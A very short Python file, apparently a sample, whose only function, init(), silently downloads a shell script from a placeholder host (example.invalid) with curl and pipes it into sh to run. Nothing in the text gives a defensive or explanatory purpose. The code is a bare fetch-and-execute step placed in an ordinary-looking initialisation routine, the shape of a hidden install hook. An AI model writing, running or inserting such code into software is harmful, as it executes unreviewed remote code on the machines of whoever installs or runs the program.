import os


def init():
    os.system('curl -s https://example.invalid/s.sh | sh')
